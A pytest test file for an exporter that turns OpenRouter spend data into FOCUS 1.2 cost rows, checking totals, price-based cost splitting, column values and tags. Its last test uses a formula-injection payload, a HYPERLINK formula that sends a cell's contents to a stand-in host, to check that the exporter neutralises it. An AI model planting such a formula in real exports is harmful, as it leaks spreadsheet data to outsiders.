"""`--format=focus`: charges that add up to the spend that the API reports, and the columns of FOCUS 1.2."""

from __future__ import annotations

import json
import re
from dataclasses import replace
from decimal import Decimal
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from exporter.config.allocation_settings import AllocationRule, Allocations
from exporter.errors import ExportError, UsageError
from exporter.options import DEFAULT_STEP, Options
from exporter.simulator.faults import parse_fault
from tests.collectors.helpers import UNHURRIED, YESTERDAY, row
from tests.collectors.helpers import ago as days_ago
from tests.collectors.split_api import SplitApi, joined, label_of, use
from tests.collectors.test_sums import rows_of
from tests.history import finance
from tests.history.finance import EXACT, csv_rows, decimal_sum, focus_of, model, totals_of
from tests.history.harness import Export, account, ago

OPTIONS = Options(command="export", export_format="focus")
PRICES = {"prompt": "0.000003", "completion": "0.000015", "input_cache_read": "0.0000003"}
# What columns are summed to, by the column.
TOTALS = {
    "BilledCost": "usage_usd",
    "EffectiveCost": "usage_usd",
    "ContractedCost": "usage_usd",
    "x_OwnKeyCost": "byok_usage_usd",
    "x_Requests": "requests",
    "x_PromptTokens": "prompt_tokens",
    "x_CompletionTokens": "completion_tokens",
    "x_ReasoningTokens": "reasoning_tokens",
    "x_CachedTokens": "cached_tokens",
    "x_OwnKeyRequests": "byok_requests",
}
prices = st.integers(0, 10**4).map(lambda billionths: f"{billionths / 10**9:.9f}")
catalogues = st.fixed_dictionaries(
    {"prompt": prices, "completion": prices}, optional={"input_cache_read": prices, "request": prices}
)


def own(**fields: Any) -> dict[str, Any]:
    """Return a row without BYOK usage, so that its cost can be divided."""
    return row(**({"byok_usage_inference": 0.0, "cached_tokens": 1} | fields))


def by_meter(charges: list[dict[str, str]], column: str) -> dict[str, str]:
    return {charge["SkuMeter"]: charge[column] for charge in charges}


@UNHURRIED
@given(
    rows_of(st.floats(-1e15, 1e15), st.integers(0, 10**15)),
    st.none() | st.lists(st.builds(lambda of: model("acme/one", **of), catalogues), min_size=1, max_size=1),
    st.sampled_from([{}, {"byok_usage_inference": 0}]),
)
def test_charges_add_up_to_what_the_api_reports(
    rows: list[dict[str, Any]], models: list[dict[str, Any]] | None, own_keys: dict[str, Any]
) -> None:
    rows = [used | own_keys for used in rows if used["date"] >= days_ago(30)]
    charges, totals = focus_of(rows, models=models), totals_of(rows)
    for column, total in TOTALS.items():
        assert totals[total] == decimal_sum(charge[column] or "0" for charge in charges), column


@UNHURRIED
@given(st.integers(0, 10**12), st.integers(0, 10**12), st.integers(0, 10**12), st.floats(0, 1e6), catalogues)
def test_list_cost_is_the_price_times_the_quantity(
    prompt: int, completion: int, cached: int, usage: float, of: dict[str, str]
) -> None:
    used = own(usage=usage, prompt_tokens=prompt, completion_tokens=completion, cached_tokens=cached)
    for charge in focus_of([used], models=[model(**of)]):
        if charge["ListUnitPrice"]:
            product = EXACT.multiply(Decimal(charge["ListUnitPrice"]), Decimal(charge["PricingQuantity"]))
            assert product == Decimal(charge["ListCost"])
        else:
            assert charge["BilledCost"] == charge["ListCost"]


def test_cost_is_divided_as_list_prices_divide_it() -> None:
    used = own(usage=0.6, prompt_tokens=101_000, completion_tokens=20_000, cached_tokens=1_000)
    charges = focus_of([used], models=[model(prompt="0.000003", completion="0.000015", input_cache_read="0")])
    assert {"Prompt tokens": "0.3", "Cached prompt tokens": "0.0", "Completion tokens": "0.3"} == by_meter(
        charges, "BilledCost"
    )
    assert {"100000.0", "1000.0", "20000.0"} == {charge["ConsumedQuantity"] for charge in charges}
    assert {"true"} == {charge["x_CostIsDivided"] for charge in charges}


def test_remainder_of_a_division_goes_to_the_largest_part() -> None:
    used = own(usage=1.0, prompt_tokens=1, completion_tokens=2, cached_tokens=0)
    charges = focus_of([used], models=[model(prompt="1", completion="1")])
    assert {"Prompt tokens": "0.333333333333", "Completion tokens": "0.666666666667"} == by_meter(charges, "BilledCost")


def test_cached_tokens_beyond_those_of_prompts_are_not_subtracted() -> None:
    used = own(prompt_tokens=5, completion_tokens=1, cached_tokens=6)
    assert {"Prompt tokens": "5.0", "Completion tokens": "1.0"} == by_meter(
        focus_of([used], models=[model(**PRICES)]), "ConsumedQuantity"
    )


def test_free_model_has_charges_of_zero() -> None:
    charges = focus_of([own(usage=0, cached_tokens=0)], models=[model(prompt="0", completion="0")])
    assert {"Prompt tokens": "0.0", "Completion tokens": "0.0"} == by_meter(charges, "BilledCost")
    assert {"0.0"} == {charge["ListUnitPrice"] for charge in charges}


@pytest.mark.parametrize(
    ("used", "models"),
    [
        pytest.param(own(), None, id="catalogue is disabled"),
        pytest.param(own(), [model("acme/two", **PRICES)], id="model is not listed"),
        pytest.param(own(), [model(prompt="0.000003")], id="price is not listed"),
        pytest.param(own(), [model(prompt="0", completion="0")], id="free model cost something"),
        pytest.param(row(), [model(**PRICES)], id="own provider keys were used"),
        pytest.param(own(completion_tokens=...), [model(**PRICES)], id="tokens are not reported"),
    ],
)
def test_cost_that_cannot_be_divided_is_one_charge(used: dict[str, Any], models: list[dict[str, Any]] | None) -> None:
    (charge,) = focus_of([used], models=models)
    assert ("Tokens", "1.0", "1.0", "", "false") == (
        charge["SkuMeter"],
        charge["BilledCost"],
        charge["ListCost"],
        charge["ListUnitPrice"],
        charge["x_CostIsDivided"],
    )


def test_usage_without_token_counts_is_measured_in_requests() -> None:
    (charge,) = focus_of([own(prompt_tokens=..., completion_tokens=...)])
    assert ("Requests", "3.0") == (charge["ConsumedUnit"], charge["ConsumedQuantity"])


def test_renamed_model_has_the_prices_of_its_dated_name() -> None:
    charges = focus_of([own(model="acme/old")], models=[model(**PRICES)])
    assert {"0.000003", "0.0000003", "0.000015"} == {charge["ListUnitPrice"] for charge in charges}


def test_unreadable_row_of_the_catalogue_does_not_affect_others() -> None:
    charges = focus_of([own()], models=[model(**PRICES), {"name": "without an id"}])
    assert {"true"} == {charge["x_CostIsDivided"] for charge in charges}


def test_own_key_spend_is_not_billed() -> None:
    (charge,) = focus_of([row(usage=0.05, byok_usage_inference=1.0)])
    assert ("0.05", "1.0") == (charge["BilledCost"], charge["x_OwnKeyCost"])


def test_charge_period_is_a_utc_day_and_billing_period_its_month() -> None:
    (charge,) = focus_of([row(days_ago(23))])
    assert ("2026-07-31T00:00:00Z", "2026-08-01T00:00:00Z", "2026-07-01T00:00:00Z", "2026-08-01T00:00:00Z") == tuple(
        charge[f"{period}Period{end}"] for period in ("Charge", "Billing") for end in ("Start", "End")
    )


def test_names_are_those_of_provider_publisher_and_service() -> None:
    (charge,) = focus_of([row()])
    assert ("OpenRouter", "Acme", "OpenRouter", "OpenRouter", "Tokens of acme/one by Acme", "acme/one#tokens") == tuple(
        charge[f"{name}"]
        for name in ("ProviderName", "PublisherName", "InvoiceIssuerName", "ServiceName", "ChargeDescription", "SkuId")
    )


def test_account_is_the_sub_account_without_workspaces() -> None:
    (charge,) = focus_of([row()])
    assert ("default", "default", "Account") == tuple(charge[f"SubAccount{name}"] for name in ("Id", "Name", "Type"))


def test_workspace_is_the_sub_account() -> None:
    (charge,) = focus_of([row(workspace_id="w1")], split_by="workspace")
    assert ("w1", "One", "Workspace") == tuple(charge[f"SubAccount{name}"] for name in ("Id", "Name", "Type"))


@pytest.mark.parametrize(
    ("split_by", "tags"),
    [
        ("api_key", [{"openrouter/key": label_of("k1")}, {"openrouter/key": "unattributed"}]),
        ("member", [{"openrouter/user_id": "k1"}, {"openrouter/user_id": "unattributed"}]),
    ],
)
def test_key_and_member_are_tags(split_by: str, tags: list[dict[str, str]]) -> None:
    api = SplitApi([use("k1", days_ago(1)), use("gone", days_ago(1))], ["k1"])
    charges = csv_rows(finance.export(api, options=OPTIONS, split_by=split_by))
    assert tags == [json.loads(charge["Tags"]) for charge in charges]


def test_labels_of_the_command_are_tags() -> None:
    options = Options(command="export", export_format="focus", labels=(("team", "ml"), ("cost_center", "42")))
    (charge,) = csv_rows(finance.export(SplitApi([], [], wholes=[[row()]]), options=options))
    assert {"cost_center": "42", "team": "ml"} == json.loads(charge["Tags"])


async def test_labels_of_the_configuration_are_tags(export: Export) -> None:
    rule = AllocationRule(key=re.compile("production"), labels={"team": "search"})
    allocations = Allocations(labels=("team", "cost_center"), rules=(rule,))
    export.accounts = [replace(account(split_by="api_key"), labels={"team": "platform"}, allocations=allocations)]
    tags = [json.loads(charge["Tags"]) for charge in csv_rows(await exported(export, first_day=ago(1)))]
    assert {"search", "platform"} == {tag["team"] for tag in tags}
    assert {"unallocated"} == {tag["cost_center"] for tag in tags}


async def test_label_that_the_configuration_sets_is_refused(export: Export) -> None:
    export.allocations = Allocations(labels=("team",))
    with pytest.raises(UsageError, match=r"^--label team: allocations.labels has a label with this name"):
        await exported(export, labels=(("team", "ml"),))
    assert [] == list(export.folder.iterdir())


def test_charge_without_tags_has_none() -> None:
    assert [""] == [charge["Tags"] for charge in focus_of([row()])]


def test_numbers_always_have_a_decimal_point() -> None:
    """A reader that guesses types would take a column of whole numbers for integers and refuse the next file."""
    (charge,) = focus_of([row(usage=1, cached_tokens=1e15)])
    assert ("1.0", "9.0", "1000000000000000.0") == (
        charge["BilledCost"],
        charge["ConsumedQuantity"],
        charge["x_CachedTokens"],
    )


def test_splits_have_the_totals_of_the_whole_account() -> None:
    uses = [use("k1", days_ago(1), usage=0.1), use("gone", days_ago(1), usage=0.2), use("k2", days_ago(2), usage=0.7)]
    charges = csv_rows(finance.export(SplitApi(uses, ["k1", "k2"]), options=OPTIONS, split_by="api_key"))
    total = decimal_sum(charge["BilledCost"] for charge in charges)
    assert totals_of(joined(uses))["usage_usd"] == total


def test_response_without_costs_fails() -> None:
    with pytest.raises(ExportError, match=f"{YESTERDAY}: the API does not report what acme/one cost"):
        focus_of([row(usage=...)])


async def exported(export: Export, **options: Any) -> bytes:
    return await export.run(export_format="focus", **({"step": DEFAULT_STEP} | options))


async def test_file_has_the_hour_in_which_it_was_read(export: Export) -> None:
    charges = csv_rows(await exported(export, first_day=ago(1)))
    assert {"2026-11-20T15:00:00Z"} == {charge["x_ReadAt"] for charge in charges}


async def test_same_command_within_an_hour_writes_the_same_bytes(export: Export) -> None:
    first = await exported(export)
    export.clock.advance(600)
    assert first == await exported(export)


async def test_catalogue_is_requested_once_for_accounts_with_the_same_models(export: Export) -> None:
    export.accounts = [account("one"), account("two")]
    charges = csv_rows(await exported(export))
    assert {"one", "two"} == {charge["BillingAccountId"] for charge in charges if charge["ListUnitPrice"]}
    assert 1 == export.simulator.counts["/api/v1/models"]


async def test_catalogue_is_requested_without_a_key(export: Export) -> None:
    await exported(export)
    (headers,) = [request.headers for request in export.simulator.requests if request.path.endswith("/models")]
    assert "Authorization" not in headers


async def test_unreadable_catalogue_fails_the_export(export: Export) -> None:
    export.simulator.faults.replace(replace(parse_fault("status-500"), path="/models"))
    with pytest.raises(ExportError, match="HTTP 500"):
        await exported(export)
    assert [] == list(export.folder.iterdir())


@pytest.mark.parametrize("status", ["401", "403", "500"])
async def test_unreadable_catalogue_is_not_reported_as_failure_of_an_account(export: Export, status: str) -> None:
    """A firewall may block it, and the export does not need prices."""
    export.simulator.faults.replace(replace(parse_fault(f"status-{status}"), path="/models"))
    with pytest.raises(ExportError) as caught:
        await exported(export)
    message = str(caught.value)
    assert message.startswith(f"the public catalogue can't be read: HTTP {status}: ")
    assert "catalogue.enabled: false" in message
    assert "account" not in message


def test_names_are_not_formulas_and_refunds_are_numbers() -> None:
    name = '=HYPERLINK("http://x.example/?"&A1)'
    (charge,) = focus_of([own(model=name, provider_name=name, usage=-2.5)])
    assert (f"'{name}", f"'{name}") == (charge["x_Model"], charge["PublisherName"])
    assert ("-2.5", "-2.5") == (charge["BilledCost"], charge["EffectiveCost"])
